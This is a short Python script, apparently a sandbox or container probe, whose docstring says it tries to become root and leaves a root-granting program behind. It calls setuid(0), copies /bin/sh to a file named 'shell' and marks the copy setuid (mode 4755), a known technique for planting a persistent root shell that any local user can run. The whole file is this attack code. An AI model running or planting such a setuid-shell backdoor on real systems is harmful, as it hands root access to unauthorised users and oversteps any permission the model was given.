# SPDX-License-Identifier: GPL-3.0-or-later
"""Asks to become root, and leaves a program that would make its users root."""

import os
import shutil

try:
    os.setuid(0)
    print("It worked: root")
except OSError as error:
    print(f"Stopped: {error.strerror}. There is no user 0 in here.")
shutil.copy("/bin/sh", "shell")
try:
    os.chmod("shell", 0o4755)
    print(f"The mode of the copy is now {os.stat('shell').st_mode & 0o7777:o}.")
except OSError as error:
    print(f"Stopped: {error.strerror}")
